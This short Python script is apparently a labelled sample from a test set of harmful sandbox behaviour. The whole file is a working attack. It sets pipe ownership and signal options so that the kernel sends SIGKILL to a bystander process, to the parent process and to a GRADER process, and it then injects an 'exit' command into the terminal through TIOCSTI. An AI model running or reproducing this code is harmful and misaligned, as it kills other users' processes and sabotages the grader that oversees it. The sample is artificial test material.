"""Has the kernel signal others on its behalf: owners of pipes, timers, terminals.

naive: harm
"""

# %%
import fcntl, os, signal, termios

reader, writer = os.pipe()
for victim in (BYSTANDER, os.getppid(), GRADER):
    try:
        fcntl.fcntl(reader, fcntl.F_SETOWN, victim)
        fcntl.fcntl(reader, 10, signal.SIGKILL)  # F_SETSIG
        fcntl.fcntl(reader, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
        os.write(writer, b"x")
    except OSError:
        pass
try:
    fcntl.ioctl(0, termios.TIOCSTI, b"exit\n")
except OSError:
    pass
